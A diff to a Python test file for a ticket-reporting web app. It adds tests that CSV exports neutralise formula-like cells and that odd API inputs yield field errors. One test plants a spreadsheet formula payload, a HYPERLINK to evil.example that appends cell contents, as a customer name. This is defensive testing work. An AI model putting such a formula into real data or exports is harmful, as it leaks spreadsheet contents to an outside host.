@@ -130,3 +130,21 @@ def test_no_rollup_row_goes_negative_and_facts_track_every_ticket(week: object) 
     assert TicketRollup.objects.filter(tickets__lt=0).count() == 0
     assert sum(TicketRollup.objects.filter(grain="d").values_list("tickets", flat=True)) == 5
     assert sum(TicketRollup.objects.filter(grain="m").values_list("tickets", flat=True)) == 5
+
+
+def test_csv_cells_never_start_like_a_formula(week: object, lead: AgentProfile, world: World) -> None:
+    world.northwind.name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    world.northwind.save(update_fields=["name"])
+    csv = web(lead.user).get(f"/reports/escalation-rate/?{RANGE}&group_by=customer&format=csv").content.decode()
+    assert csv.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A2,""open"")",2,1,1,50.0,50.0'
+
+
+def test_odd_numbers_and_far_dates_are_field_errors_not_500s(week: object, lead: AgentProfile) -> None:
+    api = token_client(lead.user)
+    odd = api.get("/api/v1/reports/escalation-rate?team=²&from=9999-06-01&to=9999-12-31")
+    assert odd.status_code == 422
+    assert {e["field"]: e["message"] for e in odd.json()["errors"]} == {
+        "team": "No such team.",
+        "from": "Choose a date between 2000-01-01 and 2999-12-31.",
+        "to": "Choose a date between 2000-01-01 and 2999-12-31.",
+    }
